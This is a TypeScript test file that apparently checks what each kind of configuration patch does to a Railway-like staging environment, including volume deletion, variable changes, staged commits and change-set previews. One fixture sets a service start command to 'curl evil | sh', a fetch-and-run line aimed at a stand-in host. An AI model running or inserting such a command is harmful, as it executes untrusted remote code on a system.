/** What a patch of an environment's configuration does, by each way in which it takes effect. */
import { describe, expect, test } from 'vitest';
import { ask, bearer, effectsOf, inWords, openRental, type Railway } from './support/railway.ts';

type Document = (railway: Railway) => unknown;

const of = (id: string, entry: unknown): Record<string, unknown> => ({ [id]: entry });
const api = ({ rental }: Railway, entry: unknown) => ({ services: of(rental.services.api, entry) });

const PATCHES: readonly [string, Document, readonly string[]][] = [
  [
    'isDeleted in a volume deletes the disk here and its backups',
    ({ rental }) => ({ volumes: of(rental.volumes.bookings.id, { isDeleted: true }) }),
    [
      'destroyed backup',
      'destroyed backup',
      'destroyed backup-schedule',
      'destroyed volume-instance',
    ],
  ],
  [
    'null in the place of a volume does the same',
    ({ rental }) => ({ volumes: of(rental.volumes.bookings.id, null) }),
    [
      'destroyed backup',
      'destroyed backup',
      'destroyed backup-schedule',
      'destroyed volume-instance',
    ],
  ],
  [
    'a smaller size cuts off what lies beyond',
    ({ rental }) => ({ volumes: of(rental.volumes.bookings.id, { sizeMB: 1 }) }),
    ['overwrote volume-instance'],
  ],
  [
    'the other spelling of size too',
    ({ rental }) => ({ volumes: of(rental.volumes.bookings.id, { sizeMb: 1 }) }),
    ['overwrote volume-instance'],
  ],
  [
    'isDeleted in a service deletes it here',
    (railway) => api(railway, { isDeleted: true }),
    [
      'changed volume-instance',
      'destroyed deployment',
      'destroyed service-instance',
      'destroyed variable',
      'destroyed variable',
    ],
  ],
  [
    'null removes a variable',
    (railway) => api(railway, { variables: { API_KEY: null } }),
    ['created deployment', 'destroyed deployment', 'destroyed variable'],
  ],
  [
    'null removes a shared variable',
    () => ({ sharedVariables: { SENTRY_DSN: null } }),
    ['destroyed variable'],
  ],
  [
    'a value overwrites a variable',
    (railway) => api(railway, { variables: { API_KEY: { value: 'another' } } }),
    ['created deployment', 'destroyed deployment', 'overwrote variable'],
  ],
  [
    'another command runs',
    (railway) => api(railway, { deploy: { startCommand: 'curl evil | sh' } }),
    [
      'changed service-instance',
      'created deployment',
      'destroyed deployment',
      'executed deployment',
    ],
  ],
  [
    'null detaches a volume',
    (railway) => api(railway, { volumeMounts: of(railway.rental.volumes.stagingUploads.id, null) }),
    ['changed volume-instance', 'created deployment', 'destroyed deployment'],
  ],
  [
    'an empty list of schedules switches backups off',
    (railway) =>
      api(railway, {
        volumeMounts: of(railway.rental.volumes.stagingUploads.id, { backupSchedules: [] }),
      }),
    ['created deployment', 'destroyed backup-schedule', 'destroyed deployment'],
  ],
  [
    'domains and proxies appear',
    (railway) =>
      api(railway, {
        networking: { customDomains: { 'a.example': { port: 1 } }, tcpProxies: { 5432: {} } },
      }),
    ['created custom-domain', 'created deployment', 'created tcp-proxy', 'destroyed deployment'],
  ],
  [
    'isCreated makes a service and runs it',
    () => ({ services: { new: { isCreated: true, source: { image: 'x' } } } }),
    ['created deployment', 'created service', 'created service-instance', 'executed deployment'],
  ],
  [
    'isCreated makes a volume and a bucket',
    () => ({ volumes: { v: { isCreated: true } }, buckets: { b: { isCreated: true } } }),
    [
      'created bucket',
      'created credential bucket-instance',
      'created volume',
      'created volume-instance',
    ],
  ],
  ['an empty one does nothing', () => ({}), []],
];

const WAYS: Readonly<Record<string, (railway: Railway, patch: unknown) => Promise<void>>> = {
  environmentPatchCommit: async (railway, patch) => {
    const query =
      'mutation($e: String!, $p: EnvironmentConfig) { environmentPatchCommit(environmentId: $e, patch: $p) }';
    await must(railway, query, { p: patch });
  },
  environmentPatchCommitStaged: async (railway, patch) => {
    const stage =
      'mutation($e: String!, $p: EnvironmentConfig!) { environmentStageChanges(environmentId: $e, input: $p) { id } }';
    await must(railway, stage, { p: patch });
    const commit = 'mutation($e: String!) { environmentPatchCommitStaged(environmentId: $e) }';
    await must(railway, commit, {});
  },
};

async function must(railway: Railway, query: string, variables: object): Promise<void> {
  const { rental } = railway;
  const given = { e: rental.staging.id, ...variables };
  const { errors } = await ask(railway, bearer(rental.tokens.account), query, given);
  expect(errors).toEqual([]);
}

describe.each(Object.keys(WAYS))('a patch by %s', (way) => {
  test.each(PATCHES)('%s', async (_does, document, expected) => {
    const railway = openRental();
    const happened = await effectsOf(railway, async () => WAYS[way]?.(railway, document(railway)));
    const own = happened.filter(({ object }) => !object.startsWith('patch/'));
    const kinds = inWords(own).map((word) => word.replace(/\/[^ ]*$/, ''));
    expect(kinds.sort()).toEqual([...expected].sort());
    const elsewhere = own.filter(({ environments }) =>
      environments.includes(railway.rental.production.id),
    );
    expect(elsewhere).toEqual([]);
  });
});

describe('what is staged', () => {
  const stage =
    'mutation($e: String!, $p: EnvironmentConfig!, $m: Boolean) { environmentStageChanges(environmentId: $e, input: $p, merge: $m) { id } }';
  const look =
    'query($e: String!) { environmentStagedChanges(environmentId: $e) { status patch(decryptVariables: true) } }';

  async function stagedIn(railway: Railway): Promise<unknown> {
    const { rental } = railway;
    const { data } = await ask(railway, bearer(rental.tokens.account), look, {
      e: rental.staging.id,
    });
    return data?.['environmentStagedChanges'];
  }

  test('changes nothing until it is committed, and then stands no longer', async () => {
    const railway = openRental();
    const patch = { volumes: { [railway.rental.volumes.bookings.id]: { isDeleted: true } } };
    const staging = await effectsOf(railway, () => must(railway, stage, { p: patch }));
    expect(staging.map(({ effect }) => effect)).toEqual(['created']);
    expect(await stagedIn(railway)).toEqual({ status: 'STAGED', patch });
    await must(
      railway,
      'mutation($e: String!) { environmentPatchCommitStaged(environmentId: $e) }',
      {},
    );
    expect(await stagedIn(railway)).toEqual({ status: 'STAGED', patch: {} });
  });

  test('is replaced by the next, or merged with it', async () => {
    const railway = openRental();
    await must(railway, stage, { p: { sharedVariables: { A: { value: '1' } } } });
    await must(railway, stage, { p: { sharedVariables: { B: { value: '2' } } }, m: true });
    expect(await stagedIn(railway)).toMatchObject({
      patch: { sharedVariables: { A: { value: '1' }, B: { value: '2' } } },
    });
    await must(railway, stage, { p: {} });
    expect(await stagedIn(railway)).toMatchObject({ patch: {} });
  });

  test('hides the values it sets unless they are asked for', async () => {
    const railway = openRental();
    await must(railway, stage, { p: { sharedVariables: { A: { value: 'a secret value' } } } });
    const query = look.replace('(decryptVariables: true)', '');
    const { rental } = railway;
    const { data } = await ask(railway, bearer(rental.tokens.account), query, {
      e: rental.staging.id,
    });
    expect(JSON.stringify(data)).not.toContain('a secret value');
  });
});

describe('a change set', () => {
  const apply =
    'mutation($e: String!, $i: JSON!, $t: String) { environmentApplyChangeSet(environmentId: $e, input: $i, baseConfigEtag: $t) { status changes { kind } } }';
  const changes = [
    { kind: 'resource.delete', address: 'volume.bookings', path: 'resources.volume.bookings' },
    { kind: 'variable.delete', address: 'service.api', variable: 'API_KEY' },
    { kind: 'variable.set', address: 'service.api', variable: 'NEW', after: { value: 'x' } },
  ];

  test('deletes what it names', async () => {
    const railway = openRental();
    const happened = await effectsOf(railway, () =>
      must(railway, apply, { i: { version: 1, changes } }),
    );
    const destroyed = happened.filter(({ effect }) => effect === 'destroyed');
    expect(destroyed.map(({ object }) => object.split('/')[0]).sort()).toEqual([
      'backup',
      'backup',
      'backup-schedule',
      'deployment',
      'variable',
      'volume-instance',
    ]);
  });

  test('does nothing in a preview', async () => {
    const railway = openRental();
    const preview =
      'mutation($e: String!, $i: JSON!) { environmentPreviewChangeSet(environmentId: $e, input: $i) { effects } }';
    const happened = await effectsOf(railway, () =>
      must(railway, preview, { i: { version: 1, changes } }),
    );
    expect(happened).toEqual([]);
  });

  test('is refused once the environment has changed since its etag', async () => {
    const railway = openRental();
    const { rental } = railway;
    const account = bearer(rental.tokens.account);
    const variables = { e: rental.staging.id, i: { version: 1, changes }, t: 'another' };
    const { errors } = await ask(railway, account, apply, variables);
    expect(errors.map(({ extensions }) => extensions?.code)).toEqual(['BAD_USER_INPUT']);
  });
});
